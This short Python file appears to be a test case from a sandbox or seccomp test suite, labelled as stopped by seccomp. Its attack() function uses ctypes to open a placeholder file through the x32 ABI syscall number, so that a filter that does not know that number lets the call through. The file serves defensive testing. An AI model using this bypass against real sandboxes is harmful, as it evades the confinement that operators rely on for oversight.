"""Opens a file by the x32 variant of open, whose number a careless filter does not know."""
# stopped by: seccomp
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(0x40000000 + 2, b"@HOME@/notes.txt", 0) >= 0:
        return "done: the file is open"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
